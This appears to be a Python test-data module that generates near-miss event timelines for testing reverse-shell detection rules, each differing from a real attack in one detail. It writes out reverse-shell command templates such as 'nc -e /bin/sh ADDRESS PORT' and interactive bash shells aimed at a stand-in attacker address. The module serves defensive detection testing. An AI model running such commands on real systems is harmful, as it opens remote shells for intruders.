"""Near misses: activities that differ from an attack in one respect and match neither rule."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from runner.sample_data.addresses import Endpoint, attacker
from runner.sample_data.planted.attacks import SECOND, Pair, Scene, look_around, program_of, stager, way_in
from runner.sample_data.processes import Process, SampleProgram
from runner.sample_data.timeline import MILLISECOND, Timeline

NearMiss = Callable[[Scene], Pair]
TOO_LATE = SECOND + MILLISECOND
SHELL = SampleProgram("/usr/bin/bash", ("/bin/bash", "-i"))


def _soon(line: Timeline) -> None:
    line.wait(3_000, 900_000)


def _opener(line: Timeline, remote: Endpoint | None = None) -> tuple[Process, Endpoint]:
    """A shell that is about to connect, started as in the attacks, and the address: an attacker's by default."""
    remote = attacker(line.rng) if remote is None else remote
    process = line.run(way_in(line), program_of(line, "/usr/bin/bash bash -c @bash", remote))
    line.wait(1_000, 60_000)
    return process, remote


def _connected(line: Timeline) -> tuple[Process, str]:
    """A shell that has connected, and the id of the connection's event."""
    opener, remote = _opener(line)
    return opener, line.connect(opener, remote)


# A shell connects, then starts a shell: but not quite.


def shell(
    scene: Scene,
    *,
    address: str = "",
    action: str = "connection_attempted",
    types: tuple[str, ...] = ("start",),
    lacks: bool = False,
    elsewhere: bool = False,
    too_late: bool = False,
) -> Pair:
    """An attack but for one difference: the address, action or type of the connection, its missing destination, a
    second shell with the same parent entity id on another host, or one that starts after the maxspan."""
    line = scene.here
    opener, remote = _opener(line, Endpoint("", address, 5432) if address else None)
    first = line.add_connection(opener, action, types=list(types), remote=remote, without_destination=lacks)
    if too_late:
        line.now += TOO_LATE
    else:
        _soon(line)
    other = scene.elsewhere if elsewhere else line
    other.now = line.now
    child = other.fork(opener)
    second = other.last_id
    if too_late:
        look_around(line, child)
    return first, second


def shell_of_other_parent(scene: Scene) -> Pair:
    """The second shell is a child of another shell."""
    line = scene.here
    opener, remote = _opener(line)
    bystander = line.run(line.rng.choice(line.machine.sessions), SampleProgram("/usr/bin/bash", ("bash", "-l")))
    first = line.connect(opener, remote)
    _soon(line)
    line.fork(bystander)
    return first, line.last_id


def shell_before(scene: Scene) -> Pair:
    """The second shell starts before the connection."""
    line = scene.here
    opener, remote = _opener(line)
    line.fork(opener)
    second = line.last_id
    _soon(line)
    return line.connect(opener, remote), second


def shell_on_windows(scene: Scene) -> Pair:
    """Both stages happen on a Windows host."""
    line = scene.windows
    remote = attacker(line.rng)
    path = "C:\\cygwin64\\bin\\bash"
    opener = line.start(line.machine.sessions[0], program_of(line, f"{path} bash -c @bash", remote))
    first = line.connect(opener, remote)
    _soon(line)
    child = line.machine.begin(SampleProgram(path, ("bash", "-i")), opener.user, at=line.now, parent=opener)
    return first, line.add_process(child, "exec", types=["start"])


def shell_child(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
    """The process event has another action or type, or lacks a field of the parent."""
    line = scene.here
    opener, first = _connected(line)
    _soon(line)
    child = line.machine.begin(SHELL, opener.user, at=line.now, parent=opener)
    return first, line.add_process(child, action, types=list(types), lacking=lacks)


def other_program_connects(scene: Scene) -> Pair:
    """A script in another language connects, and executes a shell only afterwards."""
    line = scene.here
    remote = attacker(line.rng)
    opener = line.run(way_in(line), SampleProgram("/usr/bin/ruby", ("ruby", "/tmp/open.rb")))
    line.wait(2_000, 60_000)
    first = line.connect(opener, remote)
    line.wait(900, 9_000)
    line.execute(opener, SHELL)
    _soon(line)
    child = line.fork(opener)
    second = line.last_id
    look_around(line, child)
    return first, second


def other_program_starts(scene: Scene) -> Pair:
    """The program that the shell starts is no shell."""
    line = scene.here
    opener, first = _connected(line)
    _soon(line)
    child = line.spawn(opener, line.words.program("/usr/bin/rsync rsync -a /srv/data/ /mnt/usb/"))
    second = line.last_id
    line.end(child)
    return first, second


def shell_became_other(scene: Scene) -> Pair:
    """The shell has executed another program before it starts a shell."""
    line = scene.here
    opener, first = _connected(line)
    line.wait(900, 9_000)
    line.execute(opener, line.words.program("/usr/bin/script script -q /dev/null"))
    _soon(line)
    line.spawn(opener, SHELL)
    return first, line.last_id


REVERSE_SHELL_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
    ("1.001 s apart", partial(shell, too_late=True)),
    ("loopback 127.0.0.1", partial(shell, address="127.0.0.1")),
    ("other host, same entity id", partial(shell, elsewhere=True)),
    ("other entity", shell_of_other_parent),
    ("wrong order", shell_before),
    ("no destination.ip", partial(shell, lacks=True)),
    ("Windows host", shell_on_windows),
    ("event.type end of the process", partial(shell_child, action="exec", types=("end",))),
    ("process.name not in the list of the first stage", other_program_connects),
    ("process.parent.name not in the list", shell_became_other),
    ("disconnect_received", partial(shell, action="disconnect_received", types=("start", "end"))),
    ("loopback ::1", partial(shell, address="::1")),
    ("process.name not in the list of the second stage", other_program_starts),
    ("event.action in another case", partial(shell, action="Connection_Attempted")),
    ("event.type end of the connection", partial(shell, types=("end",))),
    ("no process.parent.entity_id", partial(shell_child, action="exec", types=("start",), lacks="entity_id")),
    ("event.action uid_change", partial(shell_child, action="uid_change", types=("start",))),
    ("event.type in another case", partial(shell, types=("Start",))),
)


# A utility starts, then connects: but not quite.

PYTHON = "PYTHON python3 -c @python_subprocess"
NC = "/usr/bin/nc nc -e /bin/sh ADDRESS PORT"


def _utility(line: Timeline, command: str, remote: Endpoint) -> tuple[Process, str]:
    """A utility that is about to connect, started as in the attacks, and the id of its start."""
    process = line.run(stager(line), program_of(line, command, remote))
    return process, line.last_id


def utility_runs(scene: Scene, *, command: str = PYTHON, gap: int = 0, address: str = "") -> Pair:
    """A utility starts and connects, with other arguments, an excluded address or too long a gap."""
    line = scene.here
    remote = Endpoint("", address, 80) if address else attacker(line.rng)
    process, first = _utility(line, command, remote)
    if gap:
        line.now += gap
    else:
        _soon(line)
    second = line.connect(process, remote)
    line.wait(900, 90_000)
    line.end(process)
    return first, second


def utility_event(
    scene: Scene,
    *,
    command: str = NC,
    action: str = "connection_attempted",
    types: tuple[str, ...] = ("start",),
    lacks: bool = False,
    elsewhere: bool = False,
) -> Pair:
    """The connection has another action or type, no destination, or the same entity id on another host."""
    line = scene.here
    remote = attacker(line.rng)
    process, first = _utility(line, command, remote)
    _soon(line)
    other = scene.elsewhere if elsewhere else line
    other.now = line.now
    return first, other.add_connection(process, action, types=list(types), remote=remote, without_destination=lacks)


def utility_start(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
    """The process event has another action or type, or lacks a field of the parent."""
    line = scene.here
    remote = attacker(line.rng)
    parent = stager(line)
    program = program_of(line, "/usr/bin/perl perl -e @perl_exec", remote)
    process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
    first = line.add_process(process, action, types=list(types), lacking=lacks)
    _soon(line)
    return first, line.connect(process, remote)


def utility_of_other_entity(scene: Scene) -> Pair:
    """Another process of the same parent connects, not the utility."""
    line = scene.here
    remote = attacker(line.rng)
    parent = stager(line)
    bystander = line.run(parent, SampleProgram("/usr/bin/ruby", ("ruby", "/srv/app/bin/sidekiq")))
    line.run(parent, program_of(line, PYTHON, remote))
    first = line.last_id
    _soon(line)
    return first, line.connect(bystander, remote)


def utility_connects_before(scene: Scene) -> Pair:
    """The process connects, and executes the utility only afterwards."""
    line = scene.here
    remote = attacker(line.rng)
    process = line.run(stager(line), SampleProgram("/usr/bin/perl", ("perl", "/tmp/open.pl")))
    line.wait(2_000, 40_000)
    second = line.connect(process, remote)
    _soon(line)
    return line.execute(process, program_of(line, NC, remote)), second


def utility_on_windows(scene: Scene) -> Pair:
    """Both stages happen on a Windows host."""
    line = scene.windows
    remote = attacker(line.rng)
    path = "C:\\Program Files\\Python312\\python.exe"
    parent = line.start(line.machine.sessions[0], SampleProgram(path, (path, "C:\\Temp\\stage.py")))
    program = SampleProgram(path, program_of(line, PYTHON, remote).args)
    process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
    first = line.add_process(process, "exec", types=["start"])
    _soon(line)
    return first, line.connect(process, remote)


def utility_of_service(scene: Scene) -> Pair:
    """A service that the rule does not name starts the utility."""
    line = scene.here
    remote = attacker(line.rng)
    program = program_of(line, PYTHON, remote)
    process = line.spawn(line.machine.services["cron"], program)
    first = line.last_id
    _soon(line)
    return first, line.connect(process, remote)


CHILD_PROCESS_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
    ("1.001 s apart", partial(utility_runs, gap=TOO_LATE)),
    ("loopback 127.0.0.0/8", partial(utility_runs, address="127.8.9.1")),
    ("other host, same entity id", partial(utility_event, command=PYTHON, elsewhere=True)),
    ("link-local 169.254.0.0/16", partial(utility_runs, address="169.254.169.254")),
    ("wrong order", utility_connects_before),
    ("no destination.ip", partial(utility_event, lacks=True)),
    ("Windows host", utility_on_windows),
    ("-z beside -e", partial(utility_runs, command="/usr/bin/nc nc -z -e /bin/true ADDRESS PORT")),
    ("two arguments", partial(utility_runs, command="/usr/bin/telnet telnet ADDRESS")),
    ("argument in another case", partial(utility_runs, command="/usr/bin/nc nc -E /bin/sh ADDRESS PORT")),
    ("process.parent.name not in the list", utility_of_service),
    ("process.name not in the list", partial(utility_runs, command="/usr/bin/gawk gawk @awk")),
    ("disconnect_received", partial(utility_event, action="disconnect_received", types=("start", "end"))),
    ("other entity", utility_of_other_entity),
    ("multicast 224.0.0.0/4", partial(utility_runs, address="224.0.0.251")),
    ("loopback ::1", partial(utility_runs, address="::1")),
    ("other arguments", partial(utility_runs, command="PYTHON python3 -c @python_run")),
    ("event.type end of the process", partial(utility_start, action="exec", types=("end",))),
    ("event.action already_running", partial(utility_start, action="already_running", types=("start", "info"))),
    ("no process.parent.name", partial(utility_start, action="exec", types=("start",), lacks="name")),
    ("event.type end of the connection", partial(utility_event, types=("end",))),
    ("perl of a version", partial(utility_runs, command="/usr/bin/perl5.36.0 perl -e @perl_exec")),
)
